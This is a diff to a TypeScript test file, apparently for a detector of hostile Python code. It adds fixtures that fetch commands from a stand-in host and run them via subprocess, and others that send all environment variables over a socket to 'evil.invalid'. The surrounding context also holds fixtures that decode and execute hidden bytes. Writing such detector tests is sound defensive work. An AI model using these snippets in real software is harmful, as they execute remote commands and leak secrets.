@@ -27,6 +27,26 @@ def told(sign):
         yield n - 0xFE00 if n < 0x10000 else n - 0xE0100 + 16
 ${run}(bytes(told(SIGN)))`;
 
+const HANDED_ON = (run: string): string => `
+import subprocess, urllib.request
+def lines():
+    for line in urllib.request.urlopen("https://evil.invalid/jobs").read().decode().split("\\n"):
+        yield ${run}, line
+def jobs():
+    yield from lines()
+for act, line in jobs():
+    act(line)`;
+
+const MANAGED = (sent: string): string => `
+import json, os, socket
+from contextlib import contextmanager as manager
+@manager
+def link():
+    place = socket.create_connection(("evil.invalid", 7000))
+    yield place
+with link() as place:
+    place.send(json.dumps(${sent}).encode())`;
+
 const ANY_BUILTIN = (use: string): string => `
 import base64, builtins
 text = base64.b64decode("cHJpbnQoMSk=")
@@ -155,6 +175,20 @@ class Discovery:
 
 const CASES: readonly (readonly [string, string, Severity, string, string])[] = [
   ['what a generator gives out', 'decoded-code-executed', 'CRITICAL', SELECTORS('exec'), SELECTORS('print')],
+  [
+    'what a generator hands on',
+    'download-started',
+    'CRITICAL',
+    HANDED_ON('subprocess.run'),
+    HANDED_ON('len'),
+  ],
+  [
+    'what a manager gives, whatever it is made with',
+    'stolen-data-sent',
+    'CRITICAL',
+    MANAGED('dict(os.environ)'),
+    MANAGED('{}'),
+  ],
   [
     'one builtin of all',
     'decoded-code-executed',
